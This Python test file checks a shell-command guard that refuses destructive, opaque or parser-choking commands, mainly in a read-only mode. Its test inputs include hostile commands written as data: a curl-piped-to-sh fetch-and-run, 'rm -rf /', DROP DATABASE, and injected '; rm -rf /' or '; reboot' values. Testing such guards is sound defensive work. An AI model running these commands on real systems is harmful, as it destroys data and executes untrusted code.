"""What the guard says where it can't tell, and of commands that are announced as reading."""

import shlex
import time

import pytest

from automation.engine.guard import Severity, weigh
from automation.engine.guard.guard import weigh_text


@pytest.mark.parametrize(
    "text",
    [
        "if true",
        "curl http://x | sh",
        "$x",
        "eval " * 20 + "ls",
        "sudo " * 30 + "ls",
        "echo " + "x" * 20_000,
        "echo " + "$(" * 400 + "ls" + ")" * 400,
    ],
    ids=["no shell", "unseen", "unknown program", "deep", "wrapped", "long", "nested"],
)
def test_what_nobody_can_tell_is_refused_also_of_reading(text: str) -> None:
    for changes in (True, False):
        decision = weigh(text, changes)
        assert decision.severity is Severity.OPAQUE
        assert decision.explanation.endswith(".")


def test_a_text_that_grows_without_end_is_given_up_soon() -> None:
    functions = "; ".join(f"f{n}() {{ f{n - 1}; f{n - 1}; }}" for n in range(1, 40))
    for changes in (True, False):
        assert weigh(f"f0() {{ ls; }}; {functions}; f39", changes).rule == "TOO_MUCH"
    values = "; ".join(f"a{n}=$a{n - 1}$a{n - 1}" for n in range(1, 60))
    assert weigh(f"a0=xxxxxxxx; {values}; echo $a59").allowed
    assert weigh(f"a0=xxxxxxxx; {values}; $a59").rule == "UNKNOWN_PROGRAM"
    assert weigh("echo " + "{a,b}" * 200).allowed
    assert not weigh("rm -rf /" + "{,x}" * 200).allowed


def test_what_the_guard_fails_on_is_refused_either_way() -> None:
    text = "{ " * 270 + "ls" + "; }" * 270
    for changes in (True, False):
        assert weigh(text, changes).rule == "GUARD_FAILED"


def test_what_takes_too_long_to_read_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    weigh_text.cache_clear()
    monkeypatch.setattr("automation.engine.guard.parsing._SECONDS", 0)
    decision = weigh("ls /some/where")
    weigh_text.cache_clear()
    assert decision.rule == "UNREADABLE"
    assert "TimeoutExpired" in decision.explanation


def test_without_its_parser_nothing_passes(monkeypatch: pytest.MonkeyPatch) -> None:
    weigh_text.cache_clear()
    monkeypatch.setattr("automation.engine.guard.parsing._program", lambda: "/no/such/shfmt")
    decision = weigh("ls")
    weigh_text.cache_clear()
    assert (decision.allowed, decision.rule) == (False, "UNREADABLE")


@pytest.mark.parametrize(
    "text",
    [
        "(" * 8000,
        "{ " * 5000,
        "echo " + "`" * 2001,
        "echo " + "{a,b}{a,b}{a,b}" * 900,
        "echo " + "${x:-" * 2000,
        "x=" + "$((" * 3000,
        "a" * 10_000_000,
        "ls; " * 4000,
        "[[ " + "( " * 4000,
        "case x in " + "x) ls;; " * 1700 + "esac",
    ],
    ids=["parentheses", "braces", "backquotes", "expansion", "nested", "sums", "long", "list",
         "tests", "cases"],
)  # fmt: skip
def test_a_text_made_to_choke_the_parser_ends_soon(text: str) -> None:
    begun = time.monotonic()
    weigh(text)
    # Far beyond what it needs, also on a busy machine; a text that chokes it takes for ever.
    assert time.monotonic() - begun < 60


def test_what_a_shell_is_given_to_read_is_weighed_and_not_shown() -> None:
    for changes in (True, False):
        decision = weigh("sudo -n -- sh", changes, "rm -rf /etc/secret-name; reboot")
        assert not decision.allowed
        assert "secret-name" not in repr(decision)
    assert weigh("sh", True, "ls /tmp").allowed
    assert not weigh("sh", False, "touch /tmp/x").allowed
    assert weigh("psql", True, "SELECT 1").allowed
    assert weigh("psql", True, "DROP DATABASE x").rule == "DROP_BY_SQL"


@pytest.mark.parametrize(
    "words",
    [
        ("find", ".", "-name", "-delete"),
        ("find", ".", "-path", "-exec"),
        ("find", "/", "-name", "-delete", "-print"),
        ("grep", "-e", "-delete", "/etc/passwd"),
        ("/bin/sh", "-c", 'find . "$@" -print', "sh", "-name", "-delete"),
        ("/bin/sh", "-c", 'echo "$1"', "sh", "rm -rf /"),
        ("/bin/sh", "-c", 'grep -- "$1" "$2"', "sh", "; reboot", "/var/log/syslog"),
        ("systemctl", "restart", "nginx; rm -rf /"),
    ],
)
def test_a_word_that_is_data_is_not_taken_for_an_action(words: tuple[str, ...]) -> None:
    assert weigh(shlex.join(words)).allowed


@pytest.mark.parametrize(
    ("text", "passes"),
    [
        ("tar -x -f a.tar -C / ./srv/app ./etc/nginx", True),
        ("tar --extract --file=a.tar --numeric-owner --same-owner -C / ./srv/app", True),
        ("tar --extract --file=a.tar --numeric-owner --same-owner -C /", False),
        ("tar -x -f a.tar -C / ./etc/passwd", False),
        ("tar -x -f a.tar -C / ./usr/bin", False),
        ("tar -x -f a.tar -C / -T /tmp/list", False),
        ("tar -x -f a.tar -C / .", False),
        ("tar -xO -f a.tar -C /", True),
        ("tar -t -f a.tar -C /", True),
        ("tar -c -f /tmp/a.tar -C / .", True),
    ],
)
def test_unpacking_at_the_root_names_what_it_puts_there(text: str, passes: bool) -> None:
    assert weigh(text).allowed is passes


def test_a_refusal_names_the_rule_and_the_offending_part() -> None:
    decision = weigh("ls /tmp && sudo sh -c 'cd /; rm -rf \"$x\"/etc'")
    assert decision.rule == "DELETE_RECURSIVE"
    assert decision.severity is Severity.DENY
    assert decision.part == "rm -rf /etc"


@pytest.mark.parametrize(
    "text",
    [
        "rm /tmp/x",
        "sudo -n -- rm -f -- /tmp/x",
        "mkfs.ext4 /tmp/image",
        "dd if=/dev/zero of=/tmp/x",
        "echo x > /tmp/x",
        "echo x | tee -a /tmp/x",
        "find /tmp -name x -delete",
        "sed -i s/a/b/ /tmp/x",
        "systemctl restart nginx",
        "service nginx stop",
        "kill 4321",
        "useradd x",
        "shutdown -h now",
        "/bin/sh -c 'touch \"$1\"' sh /tmp/x",
    ],
)
def test_reading_must_not_change(text: str) -> None:
    assert not weigh(text, False).allowed


@pytest.mark.parametrize(
    "text",
    [
        "ls 2>/dev/null >&2",
        "dd if=/dev/sda of=/dev/null count=1",
        "systemctl status nginx",
        "kill -0 4321",
        "sed -n 1p /etc/hosts",
        "find /tmp -name x",
        "mkdir --help",
        "echo x | tee /dev/stderr",
        "service nginx status",
    ],
)
def test_reading_passes(text: str) -> None:
    assert weigh(text, False).allowed
